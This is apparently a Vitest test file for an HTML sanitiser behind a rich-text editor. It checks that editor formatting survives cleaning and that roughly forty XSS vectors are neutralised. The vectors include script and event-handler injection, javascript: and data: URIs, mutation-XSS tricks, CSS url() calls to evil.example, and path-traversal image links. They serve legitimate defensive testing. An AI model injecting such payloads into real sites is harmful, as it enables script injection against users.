import { expect, test } from 'vitest'
import { cleanRichText, isBlank, picturesIn } from '../../src/platform/files/rich-text.ts'

const id = 'AbCdEfGhIjKlMnOpQrStUvWx'

/** Content that runs, loads from other sites or changes the page around it. */
const active =
  /<(?:script|iframe|object|embed|svg|math|form|input|button|link|meta|base|style|template|video|audio|source|details)\b|\son\w+\s*=|javascript:|vbscript:|data:|expression\(|url\(|position|srcset|srcdoc|formaction|xlink/i

test.each([
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  `<img src="/api/file/${id}" onload="alert(1)">`,
  '<img src="javascript:alert(1)">',
  '<img src="http://127.0.0.1/x.png">',
  '<img src="//evil.example/x.png">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img srcset="http://evil.example/x 2x">',
  `<img src="/api/file/../../logout">`,
  `<img src="/api/file/${id}/../../system/user/list">`,
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="/api/logout" method="post"><button formaction="javascript:alert(1)">x</button></form>',
  '<p style="background:url(http://evil.example/x)">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>',
  '<p style="color:red;background-image:url(javascript:alert(1))">x</p>',
  '<style>*{background:url(http://evil.example)}</style>',
  '<link rel=stylesheet href=http://evil.example/x.css><meta http-equiv=refresh content="0;url=http://evil.example"><base href="http://evil.example/">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<xmp><p title="</xmp><script>alert(1)</script>"></xmp>',
])('A11: nothing of %s stays active', vector => {
  const cleaned = cleanRichText(`<p>before</p>${vector}<p>after</p>`)
  // Plain text may contain anything; only the content of tags can act.
  const tags = (cleaned.match(/<[^>]*>/g) ?? []).join('')
  expect(tags).not.toMatch(active)
  expect(cleaned).toContain('before')
  expect(cleanRichText(cleaned), 'cleaning again changes nothing').toBe(cleaned)
})

test('content of the editor stays', () => {
  const html =
    '<h2 style="text-align:center">Prices</h2><p>Okoumé <strong>up</strong> by <span style="color:#f5222d;font-size:18px">4%</span><br />at <em>Owendo</em></p>' +
    '<ul><li>CIF</li></ul><table><tbody><tr><td colspan="2">3200</td></tr></tbody></table><blockquote>quoted</blockquote>'
  expect(cleanRichText(html)).toBe(html)
})

test('a link to another site sends no referrer', () => {
  expect(cleanRichText('<a href="https://example.org/a?b=c&amp;d" target="_self">x</a>')).toBe(
    '<a href="https://example.org/a?b=c&amp;d" target="_blank" rel="noopener noreferrer">x</a>',
  )
})

test('the address of an uploaded picture is stored without its expiring signature', () => {
  const cleaned = cleanRichText(
    `<p><img src="/api/file/${id}?until=1&amp;sign=abc" alt="Logs" style="width: 50%;" /></p>`,
  )
  expect(cleaned).toBe(`<p><img alt="Logs" style="width:50%" src="/api/file/${id}" /></p>`)
  expect(picturesIn(cleaned)).toEqual([id])
})

test.each([
  '',
  '<p><br></p>',
  '<p>&nbsp;</p>',
  '<p> \u200b</p>',
  '<h1></h1>',
  '<script>words</script>',
  '<p><img src="http://elsewhere.example/x.png"></p>',
])('%j says nothing', html => {
  expect(isBlank(cleanRichText(html))).toBe(true)
})

test('a picture alone is content', () => {
  expect(isBlank(cleanRichText(`<img src="/api/file/${id}">`))).toBe(false)
})
